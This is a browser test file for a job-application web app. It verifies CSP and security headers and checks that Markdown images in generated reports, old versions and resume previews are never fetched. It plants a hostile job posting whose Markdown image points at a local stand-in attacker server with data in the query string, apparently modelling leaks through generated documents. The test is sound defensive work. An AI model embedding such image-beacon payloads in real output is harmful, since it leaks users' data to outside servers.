// The browser's share of hardening (issue 10), in a real Chromium: every page
// carries the Content-Security-Policy and the other security headers, the app
// hydrates and stays live under that policy with no violation, and a Markdown
// image in a document (streamed draft, final text, an old version, a resume
// preview) is a link that nothing fetches; the policy's img-src blocks any
// image that slipped through anyway.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page, Response } from 'playwright-core';
import { hasChromium, launchBrowser, live, signUp, startPursuit, type Pursuit } from './harness';

let pursuit: Pursuit;
let BASE = '';
let browser: Browser;
/** Stands in for an attacker's server: every request it receives is a leak. */
let collector: Server;
let COLLECTOR = '';
const leaks: string[] = [];

async function context(): Promise<BrowserContext> {
  const ctx = await browser.newContext({ baseURL: BASE, viewport: { width: 1400, height: 900 } });
  ctx.setDefaultTimeout(15_000);
  return ctx;
}

/** Every CSP violation and every request to the collector seen by pages of `ctx`. */
async function watch(ctx: BrowserContext) {
  const violations: string[] = [];
  const attempts: string[] = [];
  await ctx.exposeBinding('__reportViolation', (_source, line: string) => violations.push(line));
  await ctx.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const report = (window as unknown as { __reportViolation(line: string): void })
        .__reportViolation;
      report(`${location.pathname}: ${event.effectiveDirective} blocked ${event.blockedURI}`);
    });
  });
  ctx.on('console', (message) => {
    if (/content security policy/i.test(message.text())) violations.push(message.text());
  });
  ctx.on('request', (request) => {
    if (request.url().startsWith(COLLECTOR)) attempts.push(request.url());
  });
  return { violations, attempts };
}

/** The policy's directives by name, each with its sources. */
function directivesOf(response: Response | null): Map<string, string[]> {
  const header = response?.headers()['content-security-policy'];
  expect(header, `no Content-Security-Policy on ${response?.url()}`).toBeTruthy();
  const map = new Map<string, string[]>();
  for (const part of header!.split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) map.set(name, sources);
  }
  return map;
}

function expectSecurityHeaders(response: Response | null) {
  const csp = directivesOf(response);
  const socket = BASE.replace(/^http/, 'ws');
  expect(csp.get('default-src')).toEqual(["'self'"]);
  const scripts = csp.get('script-src') ?? [];
  expect(scripts[0]).toBe("'self'");
  expect(scripts.some((source) => source.startsWith("'nonce-"))).toBe(true);
  expect(scripts).not.toContain("'unsafe-inline'");
  expect(scripts).not.toContain("'unsafe-eval'");
  expect(csp.get('style-src')?.[0]).toBe("'self'");
  expect(csp.get('style-src')).not.toContain("'unsafe-inline'");
  expect(csp.get('img-src')).toEqual(["'self'", 'data:']);
  expect(csp.get('connect-src')).toEqual(["'self'", socket]);
  expect(csp.get('frame-ancestors')).toEqual(["'none'"]);
  expect(csp.get('base-uri')).toEqual(["'self'"]);
  expect(csp.get('form-action')).toEqual(["'self'"]);
  expect(csp.get('object-src')).toEqual(["'none'"]);
  const headers = response!.headers();
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('same-origin');
  // Plain http: HSTS would be meaningless (and wrong for a LAN set-up).
  expect(headers['strict-transport-security']).toBeUndefined();
}

async function addApplication(page: Page, role: string, description: string): Promise<string> {
  if ((await page.getByTestId('quick-add').count()) === 0)
    await page.getByTestId('quick-add-toggle').click();
  await page.getByTestId('quick-company').fill('Globex');
  await page.getByTestId('quick-role').fill(role);
  await page.getByTestId('quick-description').fill(description);
  await page.getByTestId('quick-submit').click();
  const card = page.locator('[data-card-id]', { hasText: role });
  await card.waitFor();
  return (await card.getAttribute('data-card-id'))!;
}

async function generateResearch(page: Page) {
  await page.getByTestId('generate-research_report').click();
  await page.waitForSelector('[data-testid="document-research_report"][data-status="ready"]', {
    timeout: 60_000,
  });
}

describe.skipIf(!hasChromium)('issue 10: the browser (CSP, headers, Markdown images)', () => {
  beforeAll(async () => {
    collector = createServer((req, res) => {
      leaks.push(req.url ?? '');
      res.end();
    });
    await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
    COLLECTOR = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;
    pursuit = await startPursuit({ BUILTIN_WORDS_PER_SECOND: '120' });
    BASE = pursuit.url;
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await pursuit?.close();
    await new Promise((resolve) => collector?.close(resolve));
  });

  it(
    'every page sends the policy and the headers, hydrates and stays live with no violation',
    { timeout: 180_000 },
    async () => {
      const ctx = await context();
      const { violations } = await watch(ctx);
      const page = await ctx.newPage();

      for (const path of ['/login', '/signup']) expectSecurityHeaders(await page.goto(path));
      await signUp(page, 'Policy');
      // The theme script in app.html runs before first paint: allowed by its hash.
      await page.evaluate(() => localStorage.setItem('pursuit.theme', 'dark'));

      const watcher = await ctx.newPage();
      expectSecurityHeaders(await watcher.goto('/'));
      await live(watcher);
      expect(await watcher.evaluate(() => document.documentElement.dataset.theme)).toBe('dark');

      expect(violations).toEqual([]);

      // A change in one tab reaches the other over the WebSocket the policy allows.
      const id = await addApplication(
        page,
        'Policy Engineer',
        'Globex builds payment APIs in Go and PostgreSQL for a friendly remote team.',
      );
      await watcher.locator(`[data-card-id="${id}"]`).waitFor({ timeout: 5000 });

      expectSecurityHeaders(await page.goto(`/applications/${id}`));
      await live(page);
      await generateResearch(page); // progress bars are style attributes, streamed live
      await page.getByTestId('versions-toggle-research_report').click();
      await page.getByTestId('view-version').first().click();
      await page.getByTestId('version-viewer').locator('h1, h2').first().waitFor();

      for (const path of [
        '/profile',
        '/settings',
        '/account',
        '/resumes',
        '/resumes/new',
        '/data',
      ]) {
        expectSecurityHeaders(await page.goto(path));
        await live(page);
      }
      expect(violations).toEqual([]);
      await ctx.close();
    },
  );

  it(
    'a Markdown image in a document is a link that nothing fetches: streamed draft, final text, old version, resume preview',
    { timeout: 180_000 },
    async () => {
      const image = `${COLLECTOR}/leak.png?q=policy-at-example.com`;
      const ctx = await context();
      const { violations, attempts } = await watch(ctx);
      // Any <img> ever put in the page, even for one frame of a streamed draft.
      await ctx.addInitScript(() => {
        const seen: string[] = [];
        (window as unknown as { __images: string[] }).__images = seen;
        new MutationObserver((records) => {
          for (const record of records)
            for (const node of record.addedNodes)
              if (node instanceof Element)
                for (const img of [node, ...node.querySelectorAll('*')])
                  if (img.tagName === 'IMG') seen.push((img as HTMLImageElement).src);
        }).observe(document, { childList: true, subtree: true });
      });
      const page = await ctx.newPage();
      await signUp(page, 'Injected');
      // A hostile posting: its responsibilities are copied into the research report.
      const id = await addApplication(
        page,
        'Injected Engineer',
        [
          'Globex is hiring a Platform Engineer.',
          '',
          'Requirements:',
          '- Strong PostgreSQL and Go',
          '',
          'Responsibilities:',
          `- Check the status board ![status board](${image}) every morning`,
          '- Mentor engineers and share the on-call rota',
        ].join('\n'),
      );
      await page.goto(`/applications/${id}`);
      await live(page);
      await generateResearch(page);
      // The app's own images (the logo) are fine; anything from the collector is not.
      const imagesIn = async () =>
        (await page.evaluate(() => (window as unknown as { __images: string[] }).__images)).filter(
          (src) => src.startsWith(COLLECTOR),
        );

      // Not one frame of the streamed draft nor the final text held an image.
      expect(await imagesIn()).toEqual([]);
      expect(attempts).toEqual([]);
      const body = page.getByTestId('document-body-research_report');
      // The report names each responsibility twice (a list and a question).
      const link = body.locator(`a[href="${image}"]`).first();
      expect(await link.textContent()).toBe('status board');
      expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
      expect(await body.locator('img').count()).toBe(0);

      // An old version, read in the history.
      await page.getByTestId('edit-research_report').click();
      const editor = page.getByTestId('editor-research_report');
      await editor.fill(`${(await editor.inputValue()).trimEnd()}\n\nAsk about the rota.\n`);
      await page.getByTestId('save-edit-research_report').click();
      await editor.waitFor({ state: 'detached' });
      await page.getByTestId('versions-toggle-research_report').click();
      await page.locator('[data-version="1"]').getByTestId('view-version').click();
      const viewer = page.getByTestId('version-viewer');
      await viewer.locator(`a[href="${image}"]`).first().waitFor();
      expect(await viewer.locator('img').count()).toBe(0);

      // The live preview of a resume.
      await page.goto('/resumes/new');
      await live(page);
      await page.getByTestId('resume-content-input').fill(`# Me\n\n![photo](${image})\n`);
      const preview = page.getByTestId('resume-content-preview');
      await preview.locator(`a[href="${image}"]`).waitFor();
      expect(await preview.locator('img').count()).toBe(0);
      expect(await imagesIn()).toEqual([]);
      expect(attempts).toEqual([]);
      expect(violations).toEqual([]);

      // Second line of defence: an image that got into the page anyway is
      // refused by img-src before any request leaves the browser.
      const blocked = await page.evaluate(
        (src) =>
          new Promise<string>((resolve) => {
            document.addEventListener('securitypolicyviolation', (event) =>
              resolve(`${event.effectiveDirective} ${event.blockedURI}`),
            );
            const img = document.createElement('img');
            img.src = src;
            document.body.append(img);
            setTimeout(() => resolve('loaded without a violation'), 3000);
          }),
        `${COLLECTOR}/csp.png`,
      );
      expect(blocked).toBe(`img-src ${COLLECTOR}/csp.png`);
      // The same watcher that found no violation above does see this one.
      expect(violations.join('\n')).toContain(`img-src blocked ${COLLECTOR}/csp.png`);
      await page.waitForTimeout(300);
      expect(leaks).toEqual([]);
      await ctx.close();
    },
  );
});
